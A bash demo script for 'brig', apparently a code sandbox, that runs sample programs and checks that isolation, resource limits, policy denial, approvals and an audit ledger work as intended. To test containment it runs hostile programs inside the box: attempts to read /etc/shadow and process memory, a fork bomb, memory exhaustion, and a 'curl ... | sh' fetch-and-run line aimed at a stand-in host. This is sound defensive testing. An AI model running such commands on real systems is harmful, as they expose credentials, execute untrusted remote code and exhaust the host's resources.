#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Show brig at work: three languages, four hostile programs, risk and policy, approval, the record, warm
# boxes, the daemon, a receipt, what the host offers.
#
#     demo/run.sh          (or `make demo`, which builds first)
#
# Every step states what should happen and is checked. Status 0 when all was as it should be.
set -u
cd "$(dirname "$0")/.." || exit 1
brig=${BRIG:-$PWD/out/bin/brig}
brigd=${BRIGD:-$(dirname "$brig")/brigd}
level=()
wrong=0

title() {
	if [ -t 1 ]; then printf '\n\033[1m%s\033[0m\n' "$*"; else printf '\n== %s\n' "$*"; fi
}

say() {
	printf '%s\n' "$*"
}

quote() {
	printf '%s\n' "$1" | sed 's/^/   | /'
}

# verdict CONDITION_STATUS TEXT: one line that says whether the step went as it should.
verdict() {
	if [ "$1" -eq 0 ]; then
		say "   ok: $2"
	else
		say "   NOT AS IT SHOULD BE: $2"
		wrong=$((wrong + 1))
	fi
}

# run STATUS WHY ARGUMENT...: run brig, show the command's output, compare its exit status.
# The output stays in $output.
run() {
	local want=$1 why=$2 status
	shift 2
	output=$("$brig" run "${level[@]}" "$@" </dev/null 2>&1)
	status=$?
	[ -z "$output" ] || quote "$output"
	[ "$status" -eq "$want" ]
	verdict $? "exit status $status${why:+, $why}"
}

# holds TEXT WHY: the last output must contain TEXT.
holds() {
	[[ $output == *"$1"* ]]
	verdict $? "$2"
}

if [ ! -x "$brig" ]; then
	say "demo: $brig is not there; run 'make build' first" >&2
	exit 1
fi

# All that is recorded here goes to a place of its own, and away with it.
state=$(mktemp -d) || exit 1
daemon=
trap '[ -z "$daemon" ] || kill "$daemon" 2>/dev/null; rm -rf "$state"' EXIT
export BRIG_STATE_DIR=$state
unset BRIG_POLICY BRIG_HOST BRIG_TOKEN BRIG_TOKEN_FILE

title "Which level can this host give to $(id -un 2>/dev/null || id -u)?"
problem=$("$brig" run shell -c true </dev/null 2>&1)
case $? in
0)
	say "   'standard', the default: namespaces, cgroups, Landlock, seccomp."
	;;
126)
	say "   'standard' was refused:"
	quote "$problem"
	say "   So this demo asks for '--level degraded-ok': rlimits and a watcher stand in for cgroups,"
	say "   and the receipt below names what is missing. Run it as root to see the full jail."
	level=(--level degraded-ok)
	;;
*)
	say "   none: brig failed:"
	quote "$problem"
	exit 1
	;;
esac

title "Python: brig run python -c ..."
run 0 "" python -c 'import os, platform
print("squares:", sum(n * n for n in range(1000)))
print("uid", os.getuid(), "on", platform.node(), "in", os.getcwd())'
holds "uid 1000 on brig in /workspace" "an ordinary user on a host of its own"

title "JavaScript: brig run javascript -c ..."
run 0 "" javascript -c 'console.log("primes:", [...Array(30).keys()].filter(
	n => n > 1 && ![...Array(n).keys()].some(d => d > 1 && n % d === 0)).join(" "))'
holds "primes: 2 3 5 7" "the host's Node.js, inside the box"

title "Shell: brig run shell -c ...  (what does the box see?)"
# shellcheck disable=SC2016  # the box's shell expands it
run 0 "" shell -c 'id; echo "root:" /*; seen=
for dir in /root /home /var /sys; do [ ! -e $dir ] || seen="$seen $dir"; done; echo "beyond that:${seen:- nothing}"
echo "interfaces:" $(tail -n +3 /proc/net/dev | cut -d: -f1)'
holds "beyond that: nothing" "of the host's files only /usr and what it needs"
holds "interfaces: lo" "no network interface but its own loopback"

title "Hostile: read secrets, reach the network"
run 0 "the program ran to its end and got nothing" python -c 'import os, socket
tried = through = 0
def attempt(what, action):
    global tried, through
    tried += 1
    try:
        print("GOT THROUGH:", what, action())
        through += 1
    except OSError as error:
        print("%-32s %s" % (what, error.strerror or error))
attempt("read /etc/shadow", lambda: open("/etc/shadow").read())
attempt("read the init process memory", lambda: open("/proc/1/mem", "rb").read(1))
attempt("write to /usr/bin", lambda: open("/usr/bin/evil", "w"))
attempt("connect to 1.1.1.1", lambda: socket.create_connection(("1.1.1.1", 80), 2))
attempt("raw network socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("become root", lambda: os.setuid(0))
print(tried, "attempts,", through, "got through")'
holds "6 attempts, 0 got through" "every attempt failed"

title "Hostile: a fork bomb (--pids 32)"
before=$SECONDS
run 0 "the bomb went off inside" --pids 32 --timeout 10s python -c 'import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
        children += 1
except OSError as error:
    print("fork stopped:", error.strerror, "within the limit" if 0 < children <= 32 else "at %d" % children)'
holds "within the limit" "no more than its share of processes"
[ $((SECONDS - before)) -lt 30 ]
verdict $? "nobody waited for its children, asleep for a minute: the box ends with its program"

title "Hostile: eat memory (--memory 64M)"
run 137 "killed for its memory" --memory 64M --timeout 20s python -c 'hoard = []
while True:
    hoard.append(bytearray(1 << 20))'

title "Hostile: run for ever (--timeout 1s)"
run 124 "the time was up" --timeout 1s shell -c 'trap "" TERM INT; while :; do :; done'

title "Risk: what would it do? (brig risk; nothing is run)"
cat >"$state/start.py" <<'END'
import subprocess
subprocess.run(["echo", "a program was started"])
END
output=$("$brig" risk "$state/start.py" 2>&1)
verdict $? "assessed"
quote "$output"
holds "critical" "a label for policies and people; the box is the same for all"

title "Policy: critical shell commands are not run, by default"
run 126 "denied before there was a box" shell -c 'curl -s http://x.example/install | sh'
holds "no-critical-shell" "the rule is named"

title "Approval: a policy that asks (--confirm answers in place of a person)"
cat >"$state/ask.yaml" <<'END'
version: 1
name: ask
default: allow
floor: { level: degraded-ok }
approval: { expires: 1m, self: true }
rules:
  - name: ask-when-critical
    match: { risk: critical }
    verdict: confirm
    reason: somebody has to look at it
END
run 126 "the answer was no" --policy "$state/ask.yaml" --confirm deny "$state/start.py"
holds "denied by auto-deny" "who said so is told and recorded"
run 0 "the answer was yes" --policy "$state/ask.yaml" --confirm approve "$state/start.py"
holds "a program was started" "it ran, in a box like any other"

# A person's way: the run waits, somebody looks at it and answers elsewhere.
"$brig" run "${level[@]}" --policy "$state/ask.yaml" "$state/start.py" </dev/null >"$state/waited" 2>&1 &
waiting=$!
id=
for _ in $(seq 100); do
	id=$("$brig" approvals ls 2>/dev/null | sed -n 's/^\([0-9a-z]\{26\}\) *waiting .*/\1/p')
	[ -z "$id" ] || break
	sleep 0.1
done
output=$("$brig" approvals show "$id" 2>&1)
verdict $? "the question can be seen from another terminal: brig approvals show"
quote "$(grep -E '^(Digest|Because|Risk|Code|  \|)' <<<"$output")"
output=$("$brig" approvals allow "$id" --reason 'seen in the demo' 2>&1)
verdict $? "and answered: $output"
wait "$waiting"
verdict $? "the run that waited went on"

title "The record: every step, each row's hash covers the row before it"
quote "$("$brig" ledger ls -n 3 | cut -c1-110)"
output=$("$brig" ledger verify 2>&1)
verdict $? "brig ledger verify: $output"

title "Many runs: brig batch, in boxes that are complete before they are asked"
answers=$(printf '{"level": "%s", "language": "%s", "code": "%s"}\n' \
	"${level[1]:-standard}" python '6 * 7' \
	"${level[1]:-standard}" javascript '[1, 2, 3].map(n => n * n)' \
	"${level[1]:-standard}" shell 'echo from bash; exit 3' \
	"${level[1]:-standard}" python '1 / 0' | "$brig" batch)
verdict $? "every request was carried out"
/usr/bin/python3 - "$answers" <<'END'
import json
import sys

results = [json.loads(line) for line in sys.argv[1].splitlines()]
for r in results:
    error = r["error"] or {}
    print("   | %-8s  status %s  value %-11s  output %-13r  %s" % (
        r["state"], r["exit_code"], r["value"], r["stdout"], error.get("cause", "")))
sys.exit(0 if [r["value"] for r in results] == ["42", "[ 1, 4, 9 ]", None, None]
         and results[2]["exit_code"] == 3 and results[3]["error"]["type"] == "ZeroDivisionError"
         and all(r["receipt"]["verified"] for r in results) else 1)
END
verdict $? "each in a box of its own, verified; with the value of the last expression and exceptions as data"

# call PATH [ARGUMENT...]: one call of the daemon's API; the answer stays in $output.
call() {
	local path=$1
	shift
	output=$(curl -sS --max-time 60 --unix-socket "$state/sock" "$@" "http://localhost/api/v1$path" 2>&1)
}

# field NAME: of the last answer, as Python would print it; nothing when there is none.
field() {
	/usr/bin/python3 -c 'import json, sys; print(json.loads(sys.argv[1]).get(sys.argv[2]) or "")' \
		"$output" "$1" 2>/dev/null
}

show_daemon() {
	local json=(-H 'Content-Type: application/json') code id question
	"$brigd" --state-dir "$state/daemon" --socket "$state/sock" --policy "$state/ask.yaml" \
		--log-level warning &
	daemon=$!
	for _ in $(seq 100); do
		call /ready
		[[ $output != *'"ready"'* ]] || break
		sleep 0.1
	done
	holds '"ready"' "brigd listens on a socket, and on nothing else"

	call /execute "${json[@]}" -d '{"language": "python", "code": "print(6 * 7)", "level": "'"${level[1]:-standard}"'"}'
	[ "$(field state) $(field stdout)" = "finished 42" ]
	verdict $? "POST /execute: a request in, a result out: $(field state), $(field stdout)"

	code='import subprocess\nsubprocess.run([\"echo\", \"started\"])'
	call /executions "${json[@]}" -H 'Idempotency-Key: demo' \
		-d '{"language": "python", "code": "'"$code"'", "level": "'"${level[1]:-standard}"'"}'
	id=$(field execution_id) question=$(field approval_id)
	[ "$(field state)" = waiting ]
	verdict $? "POST /executions: critical code waits for a person"
	"$brig" ps --host "unix:$state/sock" | sed 's/^/   | /'
	call "/approvals/$question" "${json[@]}" -d '{"decision": "allow", "reason": "seen in the demo"}'
	[ "$(field state)" = allowed ]
	verdict $? "POST /approvals/$question: $(field state) by $(field answered_by)"
	call "/executions/$id?wait=30000"
	[ "$(field state) $(field stdout)" = "finished started" ]
	verdict $? "GET /executions/$id: $(field state), $(field stdout)"

	kill "$daemon"
	wait "$daemon"
	verdict $? "told to stop, it ended"
	daemon=
}

title "The daemon: the same over HTTP (brigd, curl, brig ps)"
if ! command -v curl >/dev/null; then
	say "   skipped: curl is not installed"
elif [ ! -x "$brigd" ]; then
	say "   skipped: $brigd is not there"
else
	show_daemon
fi

title "A receipt: what was enforced"
receipt=$("$brig" run "${level[@]}" --json python -c 'print("hello")' </dev/null 2>/dev/null)
/usr/bin/python3 - "$receipt" <<'END'
import json
import sys

result = json.loads(sys.argv[1])
receipt = result["receipt"]
print("   state %s, level required %s, achieved %s, verified %s" % (
    result["state"], receipt["level_required"], receipt["level_achieved"], receipt["verified"]))
for layer in receipt["layers"]:
    print("   %-18s %-9s %s" % (layer["name"], "enforced" if layer["enforced"] else "MISSING",
                                layer.get("detail") or ""))
sys.exit(0 if result["state"] == "finished" and receipt["verified"] and receipt["layers"] else 1)
END
verdict $? "a receipt like this comes with every run (--receipt, --json)"

title "What this host offers: brig doctor (in short)"
doctor=$("$brig" doctor 2>&1)
say "   ok: $(grep -c '^ *ok ' <<<"$doctor") items; all others (the full text says how to get them):"
grep -E '^  (warn|missing|no|yes) ' <<<"$doctor" | sed 's/^/   /'
say "   $(tail -n 1 <<<"$doctor")"

title "Summary"
if [ "$wrong" -ne 0 ]; then
	say "demo: $wrong steps did NOT go as they should"
	exit 1
fi
say "demo: all as it should be. Your turn:"
say "   $(printf '%q ' "$brig" run "${level[@]}" python -c)'print(1)'"
